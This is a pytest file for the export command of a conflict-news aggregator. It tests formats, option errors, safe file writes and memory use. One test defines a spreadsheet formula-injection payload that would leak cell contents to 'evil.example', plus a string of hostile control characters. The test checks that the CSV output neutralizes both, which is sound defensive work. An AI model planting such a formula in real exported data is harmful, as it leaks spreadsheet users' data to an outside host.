"""`aggregator export` through the real command, on a real database."""

import csv
import gzip
import io
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from aggregator.cli.commands import cli
from aggregator.poll.opml import read_opml
from aggregator.publish.export.csv_table import unguarded
from aggregator.text.times import to_text
from tests.publish.sample import ARABIC_TITLE, HOSTILE_TITLE, Desk, fill
from tests.running import ROOT, aggregator

pytestmark = pytest.mark.timeout(240)

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
CONTROLS = 'Bell\x07 and\x00 escape\x1b[31m, a "quote",\r\na line, \u202eright to left\u202c'


@pytest.fixture
def desk(tmp_path: Path) -> Iterator[Desk]:
    desk = Desk(tmp_path / "conflict-news.db", datetime.now(UTC))
    yield desk
    desk.store.close()


@pytest.fixture
def stories(desk: Desk) -> dict[str, int]:
    return fill(desk)


def exported(folder: Path, *arguments: object) -> str:
    result = aggregator("export", *map(str, arguments), folder=folder)
    assert (result.returncode, result.stderr) == (0, ""), result.stderr
    return result.stdout


def lines(text: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in text.splitlines()]


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def test_stories_are_lines_of_json_by_default(tmp_path: Path, stories: dict[str, int]) -> None:
    told = lines(exported(tmp_path, "stories"))
    assert [story["story_id"] for story in told] == sorted(
        number for name, number in stories.items() if name != "merged"
    )
    assert told[0]["article_count"] == len(told[0]["report_ids"]) == 7
    assert ARABIC_TITLE in exported(tmp_path, "stories", "--nested")
    again = exported(tmp_path, "stories")
    assert again == exported(tmp_path, "stories", "--output", "-", "--format", "jsonl")


def test_hostile_text_stays_in_its_cell_and_comes_back(
    tmp_path: Path, desk: Desk, stories: dict[str, int]
) -> None:
    assert stories
    formula = desk.article("herald", FORMULA, minutes=3, body=f"-1 {CONTROLS}")
    told = {one["article_id"]: one for one in lines(exported(tmp_path, "reports", "--with-text"))}
    assert told[formula]["title"] == FORMULA
    assert told[formula]["text"] == f"-1 {CONTROLS}"
    file = tmp_path / "reports.csv"
    result = aggregator("export", "reports", "--with-text", "--output", file, folder=tmp_path)
    assert result.stderr == f"{len(told)} reports written to {file}\n"
    table = rows(file.read_bytes().decode())
    assert list(table[0]) == list(told[formula])
    cells = table[-1]
    assert cells["title"] == f"'{FORMULA}"
    assert unguarded(cells["title"]) == FORMULA
    assert cells["text"].startswith('\'-1 Bell and escape[31m, a "quote",\r\na line, ')
    assert "\u202e" in cells["text"]
    assert any(row["title"] == HOSTILE_TITLE for row in table)
    plain = rows(exported(tmp_path, "reports", "--format", "csv", "--plain-cells"))
    assert plain[-1]["title"] == FORMULA


def test_what_is_wanted_is_chosen_by_its_options(tmp_path: Path, stories: dict[str, int]) -> None:
    def chosen(*options: object) -> list[int]:
        return [story["story_id"] for story in lines(exported(tmp_path, "stories", *options))]

    assert chosen("--origins", 2) == [stories["shelling"], stories["bridge"]]
    assert chosen("--language", "ar-LB") == [stories["shelling"], stories["arabic"]]
    assert chosen("--conflict", "highlands") == []
    half = datetime.now(UTC) - timedelta(minutes=35)
    since = chosen("--since", "35m")
    assert since == [stories[name] for name in ("bridge", "hostile", "sport")]
    assert since == chosen("--since", to_text(half))
    assert chosen("--since", "2020-01-01", "--until", "2021-01-01") == []
    reports = lines(exported(tmp_path, "reports", "--conflict", "velmar", "--origins", 3))
    assert {report["story_id"] for report in reports} == {stories["shelling"]}


def test_a_file_is_written_whole_in_the_format_of_its_name(
    tmp_path: Path, stories: dict[str, int]
) -> None:
    assert stories
    expected = exported(tmp_path, "feeds")
    for name in ("feeds.ndjson", "feeds.jsonl.gz", "FEEDS.JSONL"):
        assert aggregator("export", "feeds", "--output", name, folder=tmp_path).returncode == 0
        body = (tmp_path / name).read_bytes()
        assert (gzip.decompress(body) if name.endswith(".gz") else body).decode() == expected
    assert aggregator("export", "feeds", "--output", "feeds.opml", folder=tmp_path).returncode == 0
    listed = read_opml((tmp_path / "feeds.opml").read_bytes())
    assert sorted(str(feed.id) for feed in listed) == [one["feed_id"] for one in lines(expected)]
    assert not [path for path in tmp_path.iterdir() if path.name.startswith(".")]


def test_a_file_that_cannot_be_finished_stays_as_it_was(tmp_path: Path, desk: Desk) -> None:
    # What is no UTF-8 cannot be read: the export fails on the way.
    desk.feed("herald", "Herald")
    for number in range(2):
        desk.article("herald", f"Report {number}", minutes=1)
    desk.change("UPDATE articles SET published_how = CAST(x'ff' AS TEXT) WHERE id = 2")
    file = tmp_path / "reports.jsonl"
    file.write_text("earlier", encoding="utf-8")
    result = aggregator("export", "reports", "--output", file, folder=tmp_path)
    assert result.returncode == 3
    assert "conflict-news.db: " in result.stderr
    assert "Traceback" not in result.stderr
    assert file.read_text(encoding="utf-8") == "earlier"
    assert not [path for path in tmp_path.iterdir() if path.name.startswith(".")]


def test_a_device_is_written_to_and_not_replaced(tmp_path: Path, stories: dict[str, int]) -> None:
    assert stories
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    with subprocess.Popen(["cat", pipe], stdout=subprocess.PIPE, text=True) as reader:
        result = aggregator("export", "feeds", "--format", "csv", "--output", pipe, folder=tmp_path)
        assert result.returncode == 0, result.stderr
        assert reader.stdout
        assert rows(reader.stdout.read()) == rows(
            exported(tmp_path, "feeds", "--format", "csv").replace("\n", "\r\n")
        )
    assert pipe.is_fifo()


@pytest.mark.parametrize(
    ("words", "told"),
    [
        ("planes", "'planes' is not one of 'stories', 'reports', 'feeds'"),
        ("stories --since yesterday", "write a day (2026-03-01)"),
        ("stories --since 9999999w", "is no time"),
        ("stories --since 999999w", "is no time"),
        ("stories --since 2026-03-02 --until 2026-03-01", "nothing lies between"),
        ("stories --language English", "write en, ar or zh"),
        ("stories --conflict moon", "choose one of highlands, velmar"),
        ("stories --origins 0", "1<=x<=10000"),
        ("stories --format opml", "export feeds, or stories as jsonl, csv or parquet"),
        ("stories --output list.opml", "export feeds, or stories as jsonl, csv or parquet"),
        ("stories --output list.xlsx", "end it in .jsonl, .ndjson, .csv, .parquet, .opml"),
        ("stories --format csv --nested", "CSV has no place"),
        ("stories --with-text", "add --nested"),
        ("reports --nested", "--nested is for stories"),
        ("feeds --with-text", "leave out --with-text"),
        ("feeds --origins 2", "leave them out for feeds"),
        ("reports --plain-cells", "add --format csv"),
        ("reports --output reports.parquet.gz", "leave out --compress and the .gz"),
    ],
)
def test_what_does_not_fit_is_told_with_what_to_do(
    tmp_path: Path, desk: Desk, monkeypatch: pytest.MonkeyPatch, words: str, told: str
) -> None:
    desk.conflict("velmar", "Velmar and Osk")
    desk.conflict("highlands", "Highlands insurgency")
    monkeypatch.chdir(tmp_path)
    before = {path.name for path in tmp_path.iterdir()}
    result = CliRunner().invoke(cli, ["export", *words.split()])
    assert (result.exit_code, result.stdout) == (2, "")
    assert told in " ".join(result.stderr.split())
    assert {path.name for path in tmp_path.iterdir()} == before


def test_without_a_database_it_says_what_makes_one(tmp_path: Path) -> None:
    result = aggregator("export", "stories", "--output", "news.csv", folder=tmp_path)
    assert result.returncode == 3
    assert "`aggregator run` makes it" in result.stderr
    assert list(tmp_path.iterdir()) == []


def test_a_folder_that_is_not_there_is_told(tmp_path: Path, stories: dict[str, int]) -> None:
    assert stories
    result = aggregator("export", "feeds", "--output", "no/feeds.csv", folder=tmp_path)
    assert result.returncode == 2
    assert "no/feeds.csv: cannot be written" in result.stderr


def test_parquet_says_how_to_get_it_where_it_is_missing(
    tmp_path: Path, stories: dict[str, int]
) -> None:
    assert stories
    code = "import sys; sys.modules['pyarrow'] = None; from aggregator.cli import main; main()"
    result = subprocess.run(
        [sys.executable, "-c", code, "export", "feeds", "--output", "feeds.parquet"],
        cwd=tmp_path,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 1
    assert "pip install 'conflict-news-aggregator[parquet]'" in result.stderr
    assert not (tmp_path / "feeds.parquet").exists()


def test_parquet_is_written_where_pyarrow_is(tmp_path: Path, stories: dict[str, int]) -> None:
    parquet = pytest.importorskip(
        "pyarrow.parquet", reason="the extra `parquet` is not installed: no Parquet to read back"
    )
    result = aggregator(
        "export", "stories", "--nested", "--output", "stories.parquet", folder=tmp_path
    )
    assert result.returncode == 0, result.stderr
    table = parquet.read_table(tmp_path / "stories.parquet").to_pylist()
    told = lines(exported(tmp_path, "stories", "--nested"))
    assert len(table) == len(told) == len(stories) - 1
    for row, line in zip(table, told, strict=True):
        assert row["headline"] == line["headline"]
        assert to_text(row["last_report_at"]) == line["last_report_at"]
        assert [one["title"] for one in row["reports"]] == [one["title"] for one in line["reports"]]


def many_articles(desk: Desk, count: int) -> None:
    """Write so many articles of two thousand characters in one statement."""
    desk.change(
        "WITH RECURSIVE numbers (n) AS (SELECT ? UNION ALL SELECT n + 1 FROM numbers"
        " WHERE n % 100000 < ?)"
        " INSERT INTO articles (page_key, feed_id, url, source, title, body, first_seen_at,"
        " version) SELECT 'herald.example/' || n, 'herald', 'https://herald.example/' || n,"
        " 'herald.example', 'Report ' || n, printf('%.*c', 2000, 'x'), ?, 1 FROM numbers",
        100_000 * count + 1,
        count,
        desk.ago(5),
    )
    desk.store.checkpoint()


def test_a_reader_that_has_seen_enough_ends_it_quietly(tmp_path: Path, desk: Desk) -> None:
    desk.feed("herald", "Herald")
    many_articles(desk, 2000)
    with subprocess.Popen(
        [sys.executable, "-m", "aggregator", "export", "reports", "--with-text"],
        cwd=tmp_path,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    ) as process:
        assert process.stdout
        assert process.stderr
        assert json.loads(process.stdout.readline())["article_id"] == 1
        process.stdout.close()
        assert process.stderr.read() == b""
        assert process.wait() == 0


@pytest.mark.parametrize("format_", ["jsonl", "csv"])
def test_a_large_database_takes_no_more_memory_than_a_small_one(
    tmp_path: Path, desk: Desk, format_: str
) -> None:
    def peak() -> int:
        command = [sys.executable, "-m", "aggregator", "export", "reports", "--with-text"]
        report, log = tmp_path / "report.json", tmp_path / "log"
        measured = [sys.executable, str(ROOT / "bench/measured.py"), str(report), str(log)]
        subprocess.run([*measured, *command, "--output", str(output)], cwd=tmp_path, check=True)
        figures = json.loads(report.read_text(encoding="utf-8"))
        assert figures["code"] == 0, log.read_text(encoding="utf-8")
        return int(figures["peak_bytes"])

    output = tmp_path / f"all.{format_}"
    desk.feed("herald", "Herald")
    many_articles(desk, 100)
    small = peak()
    many_articles(desk, 30_000)
    assert peak() - small < 8 * 2**20
    assert output.stat().st_size > 60 * 10**6
